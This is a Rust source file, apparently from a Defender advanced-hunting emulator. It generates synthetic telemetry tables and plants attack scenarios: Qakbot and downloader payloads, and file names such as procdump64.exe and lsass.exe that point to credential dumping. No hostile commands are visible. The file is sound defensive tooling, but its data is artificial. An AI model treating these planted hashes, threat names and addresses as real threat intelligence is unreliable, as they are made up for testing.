//! Deterministic synthetic Defender hunting tables.
//!
//! Tables are stored column by column; string columns are dictionary encoded (a small
//! pool of interned `Arc<str>` plus one `u32` code per row), so a million-row table costs
//! a few tens of megabytes and a `where` over a string column is evaluated once per
//! distinct value rather than once per row.

use std::collections::HashMap;
use std::sync::Arc;

use crate::value::{DataType, Value, TICKS_PER_DAY, TICKS_PER_MS, TICKS_PER_SEC};

mod stories;
mod synth;

pub use stories::{ENCODED_POWERSHELL, PHISH_IP, QAKBOT_IP};

const TICKS_PER_MIN: i64 = 60 * TICKS_PER_SEC;

/// The names of the generated tables, in generation order: every table of the
/// advanced-hunting schema the emulator serves (`schema.txt`).
pub const TABLE_NAMES: &[&str] = &[
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceFileEvents",
    "DeviceEvents",
    "DeviceImageLoadEvents",
    "DeviceRegistryEvents",
    "DeviceLogonEvents",
    "DeviceNetworkInfo",
    "DeviceInfo",
    "DeviceFileCertificateInfo",
    "DeviceTvmSoftwareInventory",
    "DeviceTvmSoftwareVulnerabilities",
    "DeviceTvmSoftwareVulnerabilitiesKB",
    "EmailEvents",
    "EmailAttachmentInfo",
    "EmailUrlInfo",
    "EmailPostDeliveryEvents",
    "UrlClickEvents",
    "IdentityLogonEvents",
    "IdentityQueryEvents",
    "IdentityDirectoryEvents",
    "IdentityInfo",
    "CloudAppEvents",
    "AlertInfo",
    "AlertEvidence",
    "BehaviorInfo",
    "BehaviorEntities",
];

/// How to generate a [`Dataset`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DatasetConfig {
    /// PRNG seed: the same config always yields the same data.
    pub seed: u64,
    /// Rows in each table unless overridden in `table_rows`.
    pub rows_per_table: usize,
    /// "Now" at generation time, Unix milliseconds: timestamps lie in
    /// `[anchor - span_days, anchor)`.
    pub anchor_unix_ms: i64,
    /// Days of history (default 40, so some data is older than the 30-day hunting window).
    pub span_days: u32,
    /// Per-table row-count overrides: `(table name, rows)`.
    pub table_rows: Vec<(String, usize)>,
}

impl Default for DatasetConfig {
    fn default() -> Self {
        DatasetConfig {
            seed: 1,
            rows_per_table: 10_000,
            anchor_unix_ms: 0,
            span_days: 40,
            table_rows: Vec::new(),
        }
    }
}

impl DatasetConfig {
    /// Sets the row count of one table (builder style).
    pub fn with_table_rows(mut self, table: &str, rows: usize) -> Self {
        self.table_rows.retain(|(t, _)| t != table);
        self.table_rows.push((table.to_string(), rows));
        self
    }

    /// The row count a table will get.
    pub fn rows_for(&self, table: &str) -> usize {
        self.table_rows
            .iter()
            .rev()
            .find(|(t, _)| t == table)
            .map_or(self.rows_per_table, |(_, n)| *n)
    }
}

/// A column's name and type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ColumnSchema {
    /// Column name, e.g. `"DeviceName"`.
    pub name: String,
    /// Column type.
    pub data_type: DataType,
}

#[derive(Debug, Clone)]
pub(crate) enum ColumnData {
    Str {
        dict: Vec<Arc<str>>,
        codes: Vec<u32>,
    },
    Int(Vec<i64>),
    Bool(Vec<bool>),
    DateTime(Vec<i64>),
    /// Any values (dynamic columns, nullable datetimes).
    Values(Vec<Value>),
}

impl ColumnData {
    #[inline]
    pub(crate) fn value(&self, row: usize) -> Value {
        match self {
            ColumnData::Str { dict, codes } => Value::Str(dict[codes[row] as usize].clone()),
            ColumnData::Int(v) => Value::Int(v[row]),
            ColumnData::Bool(v) => Value::Bool(v[row]),
            ColumnData::DateTime(v) => Value::DateTime(v[row]),
            ColumnData::Values(v) => v[row].clone(),
        }
    }
}

/// One generated table: rows sorted by `Timestamp` ascending.
#[derive(Debug, Clone)]
pub struct Table {
    name: String,
    schema: Vec<ColumnSchema>,
    pub(crate) data: Vec<ColumnData>,
    rows: usize,
}

impl Table {
    /// The table name.
    pub fn name(&self) -> &str {
        &self.name
    }
    /// The columns, in order.
    pub fn schema(&self) -> &[ColumnSchema] {
        &self.schema
    }
    /// Number of rows.
    pub fn row_count(&self) -> usize {
        self.rows
    }
    /// Index of a column by exact name.
    pub fn column_index(&self, name: &str) -> Option<usize> {
        self.schema.iter().position(|c| c.name == name)
    }
    /// The value at `(row, column)`. Panics if either is out of range.
    pub fn value(&self, row: usize, column: usize) -> Value {
        self.data[column].value(row)
    }
    /// A whole row, in schema order.
    pub fn row(&self, row: usize) -> Vec<Value> {
        self.data.iter().map(|c| c.value(row)).collect()
    }
    /// The `Timestamp` column as ticks (100 ns since the Unix epoch), ascending.
    /// Empty for the tables without one (snapshots such as `DeviceTvmSoftwareInventory`).
    pub fn timestamps(&self) -> &[i64] {
        match (self.schema.first(), self.data.first()) {
            (Some(c), Some(ColumnData::DateTime(v))) if c.name == "Timestamp" => v,
            _ => &[],
        }
    }
}

/// A set of generated tables.
#[derive(Debug, Clone)]
pub struct Dataset {
    tables: Vec<Table>,
    /// What the enrichment functions (`FileProfile`, `DeviceFromIP`...) answer from.
    pub(crate) enrich: crate::enrich::World,
}

impl Dataset {
    /// Generates every table of [`TABLE_NAMES`] deterministically from `config`.
    pub fn generate(config: &DatasetConfig) -> Dataset {
        let world = World::new(config.seed);
        let images = synth::images();
        let mut image_ix = HashMap::new();
        for (i, im) in images.iter().enumerate() {
            image_ix.entry(im.name.to_ascii_lowercase()).or_insert(i);
        }
        let anchor = config.anchor_unix_ms.saturating_mul(TICKS_PER_MS);
        let span = i64::from(config.span_days).saturating_mul(TICKS_PER_DAY);
        let stories = stories::plant(&world, &image_ix, config.seed, anchor);
        let mut tables: Vec<Table> = Vec::new();
        for spec in synth::schema() {
            let g = synth::Gen {
                w: &world,
                images: &images,
                image_ix: &image_ix,
                seed: config.seed,
                table: &spec.name,
                built: &tables,
            };
            let planted: Vec<&stories::StoryRow> =
                stories.iter().filter(|r| r.table == spec.name).collect();
            let table = build_table(&spec, config, &g, anchor, span, &planted);
            tables.push(table);
        }
        let enrich = enrich_world(&world, &images, anchor);
        Dataset { tables, enrich }
    }

    /// A table by exact (case-sensitive) name.
    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.iter().find(|t| t.name == name)
    }
    /// All tables.
    pub fn tables(&self) -> &[Table] {
        &self.tables
    }
    /// The table names.
    pub fn table_names(&self) -> Vec<&str> {
        self.tables.iter().map(|t| t.name.as_str()).collect()
    }
    /// `(name, row count)` per table.
    pub fn row_counts(&self) -> Vec<(&str, usize)> {
        self.tables
            .iter()
            .map(|t| (t.name.as_str(), t.rows))
            .collect()
    }
}

/// The files and addresses the enrichment functions know: every image of the world
/// (common ones seen widely, signed) and the planted stories' payloads (rare, unsigned,
/// detected).
fn enrich_world(w: &World, images: &[synth::Image], anchor: i64) -> crate::enrich::World {
    use crate::enrich::{Host, Profile};
    let mut profiles: Vec<Profile> = images
        .iter()
        .map(|im| Profile {
            sha1: im.sha1.clone(),
            sha256: im.sha256.clone(),
            md5: im.md5.clone(),
            size: im.size,
            prevalence: if im.signed {
                1_000_000 + (fnv(&im.name) % 9_000_000) as i64
            } else {
                40 + (fnv(&im.name) % 500) as i64
            },
            first_seen: anchor - (400 + (fnv(&im.name) % 2_000) as i64) * TICKS_PER_DAY,
            signer: im.company.clone(),
            threat: Arc::from(""),
            executable: im.name.to_ascii_lowercase().ends_with(".exe")
                || im.name.to_ascii_lowercase().ends_with(".dll"),
            software: im.product.clone(),
        })
        .collect();
    for (seed_name, threat, size) in [
        ("update.exe-payload", "Trojan:Win32/Ymacco.AA", 734_208),
        ("Fvbnmk.dll", "Trojan:Win32/Qakbot.RPX!MTB", 1_201_664),
        ("Invoice_88213.docm", "TrojanDownloader:O97M/Donoff", 48_213),
    ] {
        profiles.push(Profile {
            sha1: Arc::from(synth::digest(seed_name, 1, 40).as_str()),
            sha256: Arc::from(synth::digest(seed_name, 256, 64).as_str()),
            md5: Arc::from(synth::digest(seed_name, 5, 32).as_str()),
            size,
            prevalence: 3,
            first_seen: anchor - 7 * TICKS_PER_DAY,
            signer: Arc::from(""),
            threat: Arc::from(threat),
            executable: !seed_name.ends_with(".docm"),
            software: Arc::from(""),
        });
    }
    let hosts = (0..w.device_ids.len())
        .map(|d| Host {
            id: w.device_ids[d].clone(),
            name: w.device_names[d].clone(),
            ip: w.device_ips[d].clone(),
        })
        .collect();
    crate::enrich::World::new(profiles, hosts, anchor)
}

/// The tables the emulator generated before the schema existed: their hand-tuned
/// generators still produce the columns they always had.
fn legacy(name: &str, b: &mut Builder, w: &World, r: &mut Rng, config: &DatasetConfig) -> bool {
    match name {
        "DeviceProcessEvents" => gen_process(b, w, r),
        "DeviceNetworkEvents" => gen_network(b, w, r),
        "DeviceLogonEvents" => gen_logon(b, w, r),
        "AlertInfo" => gen_alert_info(b, w, r, config.seed),
        "AlertEvidence" => gen_alert_evidence(b, w, r, config),
        "EmailEvents" => gen_email(b, w, r),
        "IdentityLogonEvents" => gen_identity(b, w, r),
        _ => return false,
    }
    true
}

/// Rows of a table nobody configured: snapshot tables follow the size of the world.
fn default_rows(name: &str, config: &DatasetConfig, w: &World) -> usize {
    if config.table_rows.iter().any(|(t, _)| t == name) {
        return config.rows_for(name);
    }
    let nd = w.device_ids.len();
    if config.rows_per_table == 0 {
        return 0;
    }
    match name {
        "IdentityInfo" => w.user_names.len().min(config.rows_per_table.max(50)),
        "DeviceTvmSoftwareInventory" => nd * SOFTWARE_PER_DEVICE,
        "DeviceTvmSoftwareVulnerabilitiesKB" => synth::CVES.len(),
        "DeviceTvmSoftwareVulnerabilities" => vulnerable(nd).len(),
        "DeviceInfo" | "DeviceNetworkInfo" => config.rows_per_table.min(nd * 40),
        "EmailPostDeliveryEvents" => (config.rows_per_table / 8).max(20),
        _ => config.rows_per_table,
    }
}

const SOFTWARE_PER_DEVICE: usize = 5;

/// The software of device `d` (indices into the software list).
fn software_of(d: usize) -> impl Iterator<Item = usize> {
    let n = synth::SOFTWARE.len();
    (0..SOFTWARE_PER_DEVICE).map(move |i| if i < 2 { i } else { (d * 7 + i * 3) % n })
}

/// `(device, software, CVE)` for every vulnerable installed software.
fn vulnerable(nd: usize) -> Vec<(usize, usize, usize)> {
    let mut out = Vec::new();
    for d in 0..nd {
        for sw in software_of(d) {
            for (c, cve) in synth::CVES.iter().enumerate() {
                if cve.1 == sw && (d + c) % 3 != 0 {
                    out.push((d, sw, c));
                }
            }
        }
    }
    out
}

/// Index of the row of `n` near the relative position of row `i` of `of`.
fn near(r: &mut Rng, i: usize, of: usize, n: usize) -> Option<usize> {
    if n == 0 {
        return None;
    }
    let base = (i as f64 / of.max(1) as f64 * n as f64) as usize;
    Some((base + r.below(3)).min(n - 1))
}

fn rows_of(g: &synth::Gen<'_>, name: &str) -> usize {
    g.built
        .iter()
        .find(|t| t.name == name)
        .map_or(0, Table::row_count)
}

/// A fresh context for row `i` of `name`.
fn draw_ctx(
    g: &synth::Gen<'_>,
    name: &str,
    i: usize,
    n: usize,
    ts: i64,
    r: &mut Rng,
) -> synth::Ctx {
    let w = g.w;
    let pick = |r: &mut Rng, names: &[&str]| g.image(names[r.below(names.len())]);
    let mut c = synth::Ctx {
        ts,
        row: i,
        dev: Some(w.device(r)),
        user: Some(w.user(r)),
        image: None,
        parent: pick(r, INITIATORS),
        grand: pick(
            r,
            &[
                "explorer.exe",
                "services.exe",
                "svchost.exe",
                "userinit.exe",
            ],
        ),
        pid: 4 * (r.below(16_000) as i64 + 1),
        ppid: 4 * (r.below(16_000) as i64 + 1),
        gpid: 4 * (r.below(2_000) as i64 + 1),
        ip: None,
        port: 0,
        link: None,
        k: r.next(),
    };
    let public = w.public_ips.len();
    match name {
        "DeviceFileEvents" => {
            c.image = Some(pick(r, FILES));
            if r.chance(0.1) {
                c.ip = Some(r.below(public));
            }
        }
        "DeviceEvents" => {
            c.image = Some(r.below(g.images.len()));
            if c.image.is_some_and(|i| {
                STORY_ONLY
                    .iter()
                    .any(|s| g.images[i].name.eq_ignore_ascii_case(s))
            }) {
                c.image = Some(pick(r, FILES));
            }
            if r.chance(0.3) {
                c.ip = Some(r.below(w.remote_ips.len()));
                c.port = [443, 80, 53][r.below(3)];
            }
        }
        "DeviceImageLoadEvents" => c.image = Some(pick(r, DLLS)),
        "DeviceRegistryEvents" => {
            c.parent = pick(
                r,
                &[
                    "svchost.exe",
                    "explorer.exe",
                    "MsMpEng.exe",
                    "OneDrive.exe",
                    "powershell.exe",
                    "services.exe",
                ],
            )
        }
        "DeviceNetworkInfo" | "DeviceInfo" => c.dev = Some(i % w.device_ids.len()),
        "DeviceFileCertificateInfo" => c.image = Some(r.below(g.images.len())),
        "DeviceTvmSoftwareInventory" => {
            let d = i / SOFTWARE_PER_DEVICE % w.device_ids.len();
            c.dev = Some(d);
            c.link = software_of(d).nth(i % SOFTWARE_PER_DEVICE);
        }
        "DeviceTvmSoftwareVulnerabilitiesKB" => c.port = i as i64,
        "EmailAttachmentInfo" | "EmailUrlInfo" | "EmailPostDeliveryEvents" => {
            c.dev = None;
            c.link = near(r, i, n, rows_of(g, "EmailEvents"));
            if name == "EmailPostDeliveryEvents" {
                // Mail is purged after delivery for a threat: the next threat mail.
                // (Generic ZAP is of phish and spam; the planted malware mail has its own.)
                let threat = |j: usize| {
                    matches!(
                        g.linked_value("EmailEvents", Some(j), "ThreatTypes")
                            .as_str(),
                        Some("Phish" | "Spam")
                    )
                };
                let total = rows_of(g, "EmailEvents");
                c.link = c
                    .link
                    .and_then(|j| (j..total).chain(0..j).find(|x| threat(*x)));
            }
            c.image = Some(pick(
                r,
                &[
                    "Quarterly results.xlsx",
                    "Budget 2024.xlsx",
                    "report.pdf",
                    "Invoice_2024.docm",
                    "setup.msi",
                ],
            ));
            c.ip = Some(r.below(public));
        }
        "UrlClickEvents" => {
            c.dev = None;
            c.user = Some(4 + r.below(w.user_names.len() - 4));
            c.link = near(r, i, n, rows_of(g, "EmailUrlInfo"));
            c.ip = Some(r.below(public));
        }
        "IdentityQueryEvents" | "IdentityDirectoryEvents" => {
            c.user = Some(4 + r.below(w.user_names.len() - 4));
            c.port = [49_152 + r.below(10_000) as i64, 0][r.below(2)];
        }
        "IdentityInfo" => {
            c.dev = None;
            c.user = Some(i % w.user_names.len());
        }
        "CloudAppEvents" => {
            c.dev = None;
            c.user = Some(4 + r.below(w.user_names.len() - 4));
            c.ip = Some(r.below(public));
            c.image = Some(pick(r, FILES));
        }
        "BehaviorInfo" => {
            c.user = Some(4 + r.below(w.user_names.len() - 4));
        }
        "BehaviorEntities" => {
            c.link = near(r, i, n, rows_of(g, "BehaviorInfo"));
            if r.chance(0.5) {
                c.ip = Some(r.below(public));
                c.user = None;
            }
        }
        _ => {}
    }
    c
}

/// Files only the planted stories use: generic rows stay off them, so a hunt for them
/// finds the story.
const STORY_ONLY: &[&str] = &[
    "lsass.exe",
    "procdump64.exe",
    "msra.exe",
    "esentutl.exe",
    "update.exe",
    "wscript.exe",
];

const INITIATORS: &[&str] = &[
    "explorer.exe",
    "explorer.exe",
    "svchost.exe",
    "svchost.exe",
    "chrome.exe",
    "msedge.exe",
    "OUTLOOK.EXE",
    "WINWORD.EXE",
    "EXCEL.EXE",
    "powershell.exe",
    "cmd.exe",
    "MsMpEng.exe",
    "services.exe",
    "Teams.exe",
    "OneDrive.exe",
    "MsSense.exe",
];
const FILES: &[&str] = &[
    "Quarterly results.xlsx",
    "Budget 2024.xlsx",
    "notes.txt",
    "report.pdf",
    "setup.msi",
    "install.ps1",
    "inventory.ps1",
    "backup.bat",
    "~WRL0001.tmp",
    "chrome_installer.log",
    "chrome.exe",
    "OneDrive.exe",
    "Teams.exe",
    "update.dll",
];
const DLLS: &[&str] = &[
    "kernel32.dll",
    "ntdll.dll",
    "amsi.dll",
    "clr.dll",
    "System.Management.Automation.ni.dll",
    "vaultcli.dll",
    "samlib.dll",
    "dbghelp.dll",
    "wininet.dll",
    "mso.dll",
    "VBE7.DLL",
];

/// Codes of a string column mapped through `f` once per distinct value.
fn lookup(
    col: Option<&ColumnData>,
    n: usize,
    f: impl Fn(&str) -> Option<usize>,
) -> Vec<Option<usize>> {
    match col {
        Some(ColumnData::Str { dict, codes }) => {
            let m: Vec<Option<usize>> = dict.iter().map(|d| f(d)).collect();
            codes.iter().map(|c| m[*c as usize]).collect()
        }
        _ => vec![None; n],
    }
}

/// Contexts of the rows a legacy generator made: device, account, files and addresses
/// read back from its columns, so the columns added here agree with them.
fn legacy_ctxs(
    g: &synth::Gen<'_>,
    cols: &[(String, DataType, ColumnData)],
    ts: &[i64],
    r: &mut Rng,
) -> Vec<synth::Ctx> {
    let n = ts.len();
    let w = g.w;
    let find = |name: &str| cols.iter().find(|c| c.0 == name).map(|c| &c.2);
    let dev_ix: HashMap<&str, usize> = w
        .device_ids
        .iter()
        .enumerate()
        .map(|(i, d)| (&**d, i))
        .collect();
    let user_ix: HashMap<&str, usize> = w
        .user_names
        .iter()
        .enumerate()
        .map(|(i, d)| (&**d, i))
        .collect();
    let ip_ix: HashMap<&str, usize> = w
        .remote_ips
        .iter()
        .enumerate()
        .map(|(i, d)| (&**d, i))
        .collect();
    let devs = lookup(find("DeviceId"), n, |s| dev_ix.get(s).copied());
    let users = lookup(find("AccountName"), n, |s| user_ix.get(s).copied());
    let files = lookup(find("FileName"), n, |s| {
        g.image_ix.get(&s.to_ascii_lowercase()).copied()
    });
    let parents = lookup(find("InitiatingProcessFileName"), n, |s| {
        g.image_ix.get(&s.to_ascii_lowercase()).copied()
    });
    let ips = lookup(find("RemoteIP"), n, |s| ip_ix.get(s).copied());
    let int = |name: &str| match find(name) {
        Some(ColumnData::Int(v)) => Some(v),
        _ => None,
    };
    let pids = int("ProcessId");
    let ports = int("RemotePort");
    (0..n)
        .map(|i| {
            let mut c = draw_ctx(g, "", i, n, ts[i], r);
            c.dev = devs[i].or(if find("DeviceId").is_some() {
                None
            } else {
                c.dev
            });
            c.user = users[i].or(if find("AccountName").is_some() {
                None
            } else {
                c.user
            });
            c.image = files[i];
            if let Some(p) = parents[i] {
                c.parent = p;
            }
            c.ip = ips[i];
            if let Some(p) = pids {
                c.pid = p[i];
            }
            if let Some(p) = ports {
                c.port = p[i];
            }
            c
        })
        .collect()
}

/// Codes for strings: most generated values are clones of a few shared `Arc`s, so
/// they are found by address (a cheap hash) before being hashed by content.
#[derive(Default)]
struct Interner {
    dict: Vec<Arc<str>>,
    by_text: HashMap<Arc<str>, u32>,
    by_ptr: HashMap<usize, u32, std::hash::BuildHasherDefault<PtrHasher>>,
}

impl Interner {
    fn code(&mut self, s: Arc<str>) -> u32 {
        let ptr = Arc::as_ptr(&s) as *const u8 as usize;
        if let Some(c) = self.by_ptr.get(&ptr) {
            return *c;
        }
        let c = match self.by_text.get(&s) {
            Some(c) => *c,
            None => {
                self.dict.push(s.clone());
                let c = (self.dict.len() - 1) as u32;
                self.by_text.insert(s.clone(), c);
                c
            }
        };
        // Only addresses kept alive by the dictionary are stable keys.
        if Arc::ptr_eq(&self.dict[c as usize], &s) {
            self.by_ptr.insert(ptr, c);
        }
        c
    }
}

/// A multiplicative hash for addresses.
#[derive(Default)]
struct PtrHasher(u64);

impl std::hash::Hasher for PtrHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        for b in bytes {
            self.0 = (self.0 ^ u64::from(*b)).wrapping_mul(0x100_0000_01b3);
        }
    }
    fn write_usize(&mut self, n: usize) {
        self.0 = (n as u64)
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
            .rotate_left(29);
    }
}

/// A column from generated values.
fn column_from(ty: DataType, vals: Vec<Value>) -> ColumnData {
    match ty {
        DataType::String => {
            let mut interner = Interner::default();
            let codes = vals
                .into_iter()
                .map(|v| match v {
                    Value::Str(s) => interner.code(s),
                    _ => interner.code(Arc::from("")),
                })
                .collect();
            let dict = interner.dict;
            ColumnData::Str { dict, codes }
        }
        DataType::Int | DataType::Long if vals.iter().all(|v| matches!(v, Value::Int(_))) => {
            ColumnData::Int(vals.iter().map(|v| v.as_i64().unwrap_or(0)).collect())
        }
        DataType::Bool if vals.iter().all(|v| matches!(v, Value::Bool(_))) => ColumnData::Bool(
            vals.iter()
                .map(|v| matches!(v, Value::Bool(true)))
                .collect(),
        ),
        DataType::DateTime if vals.iter().all(|v| matches!(v, Value::DateTime(_))) => {
            ColumnData::DateTime(
                vals.iter()
                    .map(|v| match v {
                        Value::DateTime(t) => *t,
                        _ => 0,
                    })
                    .collect(),
            )
        }
        _ => ColumnData::Values(vals),
    }
}

/// Builds one table of the schema: the legacy generator's columns where it has them,
/// the generic ones otherwise, the planted story rows, sorted by `Timestamp`.
fn build_table(
    spec: &synth::TableSpec,
    config: &DatasetConfig,
    g: &synth::Gen<'_>,
    anchor: i64,
    span: i64,
    planted: &[&stories::StoryRow],
) -> Table {
    let name = spec.name.as_str();
    let w = g.w;
    let total = default_rows(name, config, w);
    // Planted rows take the place of generated ones, so a table has the rows asked for;
    // a table too small to hold its stories gets none.
    let planted = if planted.len() * 2 <= total {
        planted
    } else {
        &[]
    };
    let n = total - planted.len();
    let mut rng = Rng::new(config.seed ^ fnv(name));
    let has_ts = spec.cols.first().is_some_and(|c| c.0 == "Timestamp");
    let ts = if has_ts {
        timestamps(&mut rng, n, anchor, span)
    } else {
        vec![anchor.saturating_sub(TICKS_PER_DAY); n]
    };
    let mut b = Builder {
        n,
        cols: Vec::new(),
    };
    let is_legacy = legacy(name, &mut b, w, &mut rng, config);
    let legacy_cols: Vec<(String, DataType, ColumnData)> = b
        .cols
        .into_iter()
        .map(|(n, t, d)| (n.to_string(), t, d))
        .collect();
    let mut ctxs = if is_legacy {
        legacy_ctxs(g, &legacy_cols, &ts, &mut rng)
    } else if name == "DeviceTvmSoftwareVulnerabilities"
        && total == vulnerable(w.device_ids.len()).len()
    {
        vulnerable(w.device_ids.len())
            .into_iter()
            .enumerate()
            .map(|(i, (d, sw, cve))| {
                let mut c = draw_ctx(g, name, i, n, ts[i], &mut rng);
                c.dev = Some(d);
                c.link = Some(sw);
                c.port = cve as i64;
                c
            })
            .collect()
    } else {
        (0..n)
            .map(|i| draw_ctx(g, name, i, n, ts[i], &mut rng))
            .collect::<Vec<_>>()
    };
    let story_ctxs: Vec<synth::Ctx> = planted.iter().map(|p| p.ctx.clone()).collect();
    let mut data = Vec::with_capacity(spec.cols.len());
    for (col, ty) in &spec.cols {
        let mut column = if col == "Timestamp" {
            ColumnData::DateTime(ts.clone())
        } else if let Some((_, _, d)) = legacy_cols.iter().find(|(c, t, _)| c == col && t == ty) {
            d.clone()
        } else if let Some(d) = synth::derive_from_table(name, col, &legacy_cols) {
            d
        } else {
            column_from(*ty, synth::values(g, col, *ty, &ctxs))
        };
        if !planted.is_empty() {
            let mut extra = synth::values(g, col, *ty, &story_ctxs);
            for (j, p) in planted.iter().enumerate() {
                if let Some((_, v)) = p.set.iter().find(|(c, _)| c == col) {
                    extra[j] = v.clone();
                }
            }
            column = append(column, *ty, extra);
        }
        data.push(column);
    }
    ctxs.clear();
    let rows = n + planted.len();
    let mut table = Table {
        name: name.to_string(),
        schema: spec
            .cols
            .iter()
            .map(|(n, t)| ColumnSchema {
                name: n.clone(),
                data_type: *t,
            })
            .collect(),
        data,
        rows,
    };
    if has_ts && !planted.is_empty() {
        table.sort_by_time();
    }
    table
}

/// `col` followed by `extra`.
fn append(col: ColumnData, ty: DataType, extra: Vec<Value>) -> ColumnData {
    match col {
        ColumnData::Str {
            mut dict,
            mut codes,
        } => {
            let mut ix: HashMap<Arc<str>, u32> = dict
                .iter()
                .enumerate()
                .map(|(i, d)| (d.clone(), i as u32))
                .collect();
            for v in extra {
                let s: Arc<str> = match v {
                    Value::Str(s) => s,
                    Value::Null => Arc::from(""),
                    _ => Arc::from(""),
                };
                let c = *ix.entry(s.clone()).or_insert_with(|| {
                    dict.push(s);
                    (dict.len() - 1) as u32
                });
                codes.push(c);
            }
            ColumnData::Str { dict, codes }
        }
        other => {
            let n = match &other {
                ColumnData::Int(v) | ColumnData::DateTime(v) => v.len(),
                ColumnData::Bool(v) => v.len(),
                ColumnData::Values(v) => v.len(),
                ColumnData::Str { codes, .. } => codes.len(),
            };
            let mut all: Vec<Value> = (0..n).map(|i| other.value(i)).collect();
            all.extend(extra);
            column_from(ty, all)
        }
    }
}

impl Table {
    /// Reorders every column so `Timestamp` ascends (stable).
    fn sort_by_time(&mut self) {
        let ts = self.timestamps().to_vec();
        let mut order: Vec<usize> = (0..self.rows).collect();
        order.sort_by_key(|i| ts[*i]);
        for col in &mut self.data {
            *col = match std::mem::replace(col, ColumnData::Int(Vec::new())) {
                ColumnData::Str { dict, codes } => ColumnData::Str {
                    dict,
                    codes: order.iter().map(|i| codes[*i]).collect(),
                },
                ColumnData::Int(v) => ColumnData::Int(order.iter().map(|i| v[*i]).collect()),
                ColumnData::DateTime(v) => {
                    ColumnData::DateTime(order.iter().map(|i| v[*i]).collect())
                }
                ColumnData::Bool(v) => ColumnData::Bool(order.iter().map(|i| v[*i]).collect()),
                ColumnData::Values(v) => {
                    ColumnData::Values(order.iter().map(|i| v[*i].clone()).collect())
                }
            };
        }
    }
}

// ---------------------------------------------------------------------------------------
// PRNG and helpers

/// splitmix64.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5851_f42d_4c95_7f2d)
    }
    #[inline]
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    #[inline]
    fn below(&mut self, n: usize) -> usize {
        (((self.next() >> 32) * n as u64) >> 32) as usize
    }
    #[inline]
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    #[inline]
    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
    /// Index into `weights` chosen proportionally.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u32 = weights.iter().sum();
        let mut r = self.below(total as usize) as u32;
        for (i, w) in weights.iter().enumerate() {
            if r < *w {
                return i;
            }
            r -= w;
        }
        weights.len() - 1
    }
    fn hex(&mut self, len: usize) -> String {
        const H: &[u8; 16] = b"0123456789abcdef";
        (0..len).map(|_| H[self.below(16)] as char).collect()
    }
    fn alnum(&mut self, len: usize) -> String {
        const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        (0..len).map(|_| A[self.below(A.len())] as char).collect()
    }
    fn guid(&mut self) -> String {
        format!(
            "{}-{}-{}-{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(4),
            self.hex(4),
            self.hex(12)
        )
    }
}

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    })
}

/// `n` ascending timestamps spread uniformly over `[anchor - span, anchor)`
/// (one uniform draw per equal-width stratum: already sorted, O(n)).
fn timestamps(rng: &mut Rng, n: usize, anchor: i64, span: i64) -> Vec<i64> {
    let start = anchor.saturating_sub(span);
    let step = span as f64 / n.max(1) as f64;
    (0..n)
        .map(|i| {
            let off = ((i as f64 + rng.unit()) * step) as i64;
            start.saturating_add(off.min(span - 1).max(0))
        })
        .collect()
}

fn arcs<S: AsRef<str>>(items: &[S]) -> Vec<Arc<str>> {
    items.iter().map(|s| Arc::from(s.as_ref())).collect()
}

struct Builder {
    n: usize,
    cols: Vec<(&'static str, DataType, ColumnData)>,
}

impl Builder {
    /// A string column whose row `i` is `dict[code(i)]`.
    fn str_col(
        &mut self,
        name: &'static str,
        dict: Vec<Arc<str>>,
        mut code: impl FnMut(usize) -> usize,
    ) {
        let codes = (0..self.n).map(|i| code(i) as u32).collect();
        self.cols
            .push((name, DataType::String, ColumnData::Str { dict, codes }));
    }
    /// A string column from precomputed codes.
    fn str_codes(&mut self, name: &'static str, dict: Vec<Arc<str>>, codes: &[usize]) {
        self.str_col(name, dict, |i| codes[i]);
    }
    fn int_col(&mut self, name: &'static str, ty: DataType, mut f: impl FnMut(usize) -> i64) {
        let v = (0..self.n).map(&mut f).collect();
        self.cols.push((name, ty, ColumnData::Int(v)));
    }
    fn bool_col(&mut self, name: &'static str, mut f: impl FnMut(usize) -> bool) {
        let v = (0..self.n).map(&mut f).collect();
        self.cols.push((name, DataType::Bool, ColumnData::Bool(v)));
    }
    /// A `ReportId` column: unique, increasing with jitter.
    fn report_id(&mut self, rng: &mut Rng) {
        self.int_col("ReportId", DataType::Long, |i| {
            10_000 + i as i64 * 8 + rng.below(8) as i64
        });
    }
}

// ---------------------------------------------------------------------------------------
// The shared "world": devices, accounts, files, addresses.

struct World {
    device_ids: Vec<Arc<str>>,
    device_names: Vec<Arc<str>>,
    device_ips: Vec<Arc<str>>,
    user_names: Vec<Arc<str>>,
    user_domains: Vec<Arc<str>>,
    user_upns: Vec<Arc<str>>,
    user_emails: Vec<Arc<str>>,
    user_sids: Vec<Arc<str>>,
    user_oids: Vec<Arc<str>>,
    user_display: Vec<Arc<str>>,
    user_given: Vec<Arc<str>>,
    user_surname: Vec<Arc<str>>,
    file_names: Vec<Arc<str>>,
    file_paths: Vec<Arc<str>>,
    file_sha: Vec<Arc<str>>,
    /// Indices into the process list with their command lines (flattened variants).
    cmd_proc: Vec<usize>,
    cmd_lines: Vec<Arc<str>>,
    remote_ips: Vec<Arc<str>>,
    remote_urls: Vec<Arc<str>>,
    public_ips: Vec<Arc<str>>,
}

/// (file name, folder, command-line variants, weight)
const PROCESSES: &[(&str, &str, &[&str], u32)] = &[
